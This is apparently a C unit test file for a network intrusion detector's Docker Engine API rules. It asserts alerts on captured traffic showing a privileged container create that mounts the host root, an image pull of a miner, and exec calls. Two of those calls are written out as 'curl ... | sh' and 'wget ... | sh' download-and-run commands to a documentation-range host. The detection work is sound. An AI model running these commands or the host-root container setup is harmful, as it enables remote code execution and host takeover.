/*
 * test_docker.c — Docker Engine API abuse: host-root privileged create
 * with a download-and-run command from outside HOME_NET (critical), exec
 * of a download-and-run and an image pull, a normal CLI on loopback
 * (silent), and net.home_net deciding what "outside" is.
 */
#include "core/compat.h"
#include <setjmp.h>
#include <cmocka.h>
#include "net/internal.h"
#include "nethelp.h"

static void test_hostroot(void **st)
{
	(void)st;
	struct nt_out o;
	assert_int_equal(nt_scan(nt_gen("net_app/docker_hostroot.pcap"), NULL, NULL, &o), 0);
	assert_int_equal(o.nalerts, 2);
	const char *a = o.alerts.ptr;
	assert_non_null(strstr(a, "\"id\":\"mamori.net.docker.api-external\""));
	const char *c = strstr(a, "\"id\":\"mamori.net.docker.container-create\"");
	assert_non_null(c);
	assert_non_null(strstr(c, "\"level\":\"critical\""));
	assert_non_null(strstr(c, "\"image\":\"alpine\""));
	assert_non_null(strstr(c, "\"binds\":[\"/:/mnt\"]"));
	assert_non_null(strstr(c, "\"privileged\":true"));
	assert_non_null(strstr(c, "curl -s http://203.0.113.9/x.sh | sh"));
	assert_non_null(strstr(c, "\"T1611\""));
	nt_out_release(&o);
	/* the same traffic with the client inside HOME_NET: no exposure
	 * alert, the host-root create still fires */
	const char *sets[] = { "net.home_net=203.0.113.0/24,10.0.0.0/8", NULL };
	assert_int_equal(nt_scan(nt_gen("net_app/docker_hostroot.pcap"), sets, NULL, &o), 0);
	assert_int_equal(o.nalerts, 1);
	assert_non_null(strstr(o.alerts.ptr, "container-create"));
	nt_out_release(&o);
}

static void test_exec_and_pull(void **st)
{
	(void)st;
	struct nt_out o;
	assert_int_equal(nt_scan(nt_gen("net_app/docker_exec.pcap"), NULL, NULL, &o), 0);
	assert_int_equal(o.nalerts, 3);
	assert_non_null(strstr(o.alerts.ptr, "\"id\":\"mamori.net.docker.image-pull\""));
	assert_non_null(strstr(o.alerts.ptr, "\"image\":\"example/miner\""));
	const char *e = strstr(o.alerts.ptr, "\"id\":\"mamori.net.docker.exec\"");
	assert_non_null(e);
	assert_non_null(strstr(e, "\"level\":\"critical\""));
	assert_non_null(strstr(e, "wget -qO- http://203.0.113.9/m.sh | sh"));
	nt_out_release(&o);
}

static void test_benign_cli(void **st)
{
	(void)st;
	struct nt_out o;
	assert_int_equal(nt_scan(nt_gen("net_app/docker_benign.pcap"), NULL, "http", &o), 0);
	assert_int_equal(o.nalerts, 0);
	/* and it was parsed: the three requests are there */
	assert_int_equal(o.nrecords, 3);
	assert_non_null(strstr(o.records.ptr, "/v1.47/containers/create"));
	nt_out_release(&o);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hostroot),
		cmocka_unit_test(test_exec_and_pull),
		cmocka_unit_test(test_benign_cli),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
